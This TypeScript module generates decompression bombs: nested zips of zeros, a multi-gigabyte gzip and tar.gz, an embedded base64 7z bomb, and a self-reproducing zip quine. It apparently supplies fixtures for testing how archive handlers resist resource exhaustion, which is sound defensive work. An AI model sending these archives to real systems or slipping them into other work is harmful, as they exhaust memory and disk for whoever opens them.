/**
 * Archives made to burst: small in the mail, gigabytes when opened. Each holds zeros, again and again; the quine opens into
 * itself without end. What is too dear to make here at each run (7z) or was found by others (the quine) stands as text.
 */
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';

const CHUNK = 64 * 2 ** 20;
const COPIES = 64;

/** Go's archive/zip tests carry it (BSD licence); found by Russ Cox, "Zip files all the way down", 2010. */
const QUINE =
  'UEsDBBQAAAAIAAgDZDz59IlkSAEAALgBAAAHAAAAci9yLnppcAAlANr/UEsDBBQAAAAIAAgDZDz59IlkSAEAALgBAAAHAAAAci9yLnppcAAvAN' +
  'D/ACUA2v9QSwMEFAAAAAgACANkPPn0iWRIAQAAuAEAAAcAAAByL3IuemlwAC8A0P/CVI5XOQAFAPr/wlSOVzkABQD6/wAFAPr/ABQA6//CVI5X' +
  'OQAFAPr/AAUA+v8AFADr/0KIIcQAABQA6/9CiCHEAAAUAOv/QoghxAAAFADr/0KIIcQAABQA6/9CiCHEAAAAAP//AAAA//8ANADL/0KIIcQAAA' +
  'AA//8AAAD//wA0AMv/QughXg8AAAD//wrwZmQSYcAV3OigSL9IryqzIMCblQ3EZwRCUwYGBkAABgD5/20BAAAAAELoIV4PAAAA//8K8GZkEmHA' +
  'FdzooEi/SK8qsyDAm5UNxGcEQlMGBgZAAAYA+f9tAQAAAABQSwECFAAUAAAACAAIA2Q8+fSJZEgBAAC4AQAABwAAAAAAAAAAAAAAAAAAAAAAci' +
  '9yLnppcFBLBQYAAAAAAQABADUAAABtAQAAAAA=';

/** 1 GiB of zeros by LZMA, and that archive in another. */
const SEVEN_ZIP =
  'N3q8ryccAARVSf0+/gEAAAAAAABaAAAAAAAAAIRltaLiUG8B9l0AG56TivE4JUSFy+sj4Pue7Ilp3GTQF+BPU6NEscatyr2c0nAYBFBzdvUXLM' +
  'eM3us83DFIV+KdeQKv9W4DqKKeoq3PzWI5bR4YezqzbUu+7UyQd8A0zTy6dXCA2OMoPv0ElLspzxDn99M3MXBoXi+aHJT48dA7Vi/6XpetVuTm' +
  '1ugw/+B96ICAcxNCad4yE5oszTFP1Qmw2F23DR96VV4+f7+taSfpOZJbg/UyrAuab5QBaRa1f3eQhuxTdzFjvoTTy8Zkp3nb6Dre4Jz5Y1JL8v' +
  'nW1eiJtaY3XgLJZOH813Z0erlxFPcPw+PaWAZbY0fJ0LxXFw4qLgpwSl2wBkK+fkJIUjTKoq2IsVWkrW4zd5NgnBFwqTEZ9apQrprYTITHoHpX' +
  'drxyYimD4ZMqY8xdWUn8FGHCELLgSxMzRC38W34cJ3o/6mmRhM6ziFFUjeYnD82/YIerziDHSiadojfUwYmdNZDucyFi2oIECn1oKoOY1Q39vx' +
  '3ZpHQQRcxQ6Etk7iIOPgHsKqKBn84h4vB9+xAlQQTugUjK+BNoTdeh32fG1Gc4n2lDqEqSbGdeBqsQ/0Lc+drNqGdIOgz8n10eW/gScJvzbcQP' +
  'JVVMIP3SksU5v7GhJzJxUCgat00A7Drq0hqD7ZUa/v44owib/KNBvlH6V0swAAABBAYAAQmB/gAHCwEAASEhAQsMwnBQAAgKAWzvaGwAAAUBGQ' +
  'kAAAAAAAAAAAARDwBzAC8AYQAuADcAegAAABkEAAAAABQKAQAzAVc1NHrdARUGAQAggKSBAAA=';

export interface Bomb {
  name: string;
  octets: Buffer;
}

export function bombs(): Bomb[] {
  const zeros = Buffer.alloc(CHUNK);
  const inner = zipOf(Array.from({ length: COPIES }, (_, at) => ({ name: `${at}.bin`, content: zeros })));
  const member = gzipSync(zeros);
  const members = Array.from({ length: COPIES }, () => member);
  let nested = inner;
  for (let depth = 0; depth < 12; depth += 1) nested = zipOf([{ name: `${depth}.zip`, content: nested }]);
  return [
    { name: 'bomb.zip', octets: inner },
    { name: 'nested.zip', octets: nested },
    { name: 'bomb.gz', octets: Buffer.concat(members) },
    { name: 'bomb.tar.gz', octets: tarBomb(members) },
    { name: 'bomb.7z', octets: Buffer.from(SEVEN_ZIP, 'base64') },
    { name: 'quine.zip', octets: Buffer.from(QUINE, 'base64') },
  ];
}

/** A tar of one file of 4 GiB, gzip'd: the members of a gzip file are read one after the other. */
function tarBomb(members: readonly Buffer[]): Buffer {
  const header = Buffer.alloc(512);
  header.write('zeros.bin', 0);
  header.write('0000644\0', 100);
  // POSIX ustar: octal, 11 digits; 4 GiB is 40000000000
  header.write('40000000000\0', 124);
  header.write('00000000000\0', 136);
  header.write('        0ustar\u000000', 148, 'latin1');
  const sum = header.reduce((total, octet) => total + octet, 0);
  header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148);
  return Buffer.concat([gzipSync(header), ...members]);
}

/** PKWARE APPNOTE §4.3: local headers and data, then the directory. */
function zipOf(files: ReadonlyArray<{ name: string; content: Buffer }>): Buffer {
  const pieces: Buffer[] = [];
  const directory: Buffer[] = [];
  const made = new Map<Buffer, { data: Buffer; sum: number }>();
  let at = 0;
  for (const { name, content } of files) {
    const known = made.get(content) ?? { data: deflateRawSync(content), sum: crc32(content) };
    made.set(content, known);
    const { data, sum } = known;
    const common = Buffer.alloc(26);
    common.writeUInt16LE(20, 0);
    common.writeUInt16LE(8, 4);
    common.writeUInt32LE(sum, 10);
    common.writeUInt32LE(data.length, 14);
    common.writeUInt32LE(content.length, 18);
    common.writeUInt16LE(name.length, 22);
    const title = Buffer.from(name, 'latin1');
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(at, 10);
    directory.push(Buffer.from('PK\u0001\u0002\u0014\u0000', 'latin1'), common, tail, title);
    const local = Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), common, title]);
    pieces.push(local, data);
    at += local.length + data.length;
  }
  const listing = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 0, 'latin1');
  end.writeUInt16LE(files.length, 8);
  end.writeUInt16LE(files.length, 10);
  end.writeUInt32LE(listing.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...pieces, listing, end]);
}
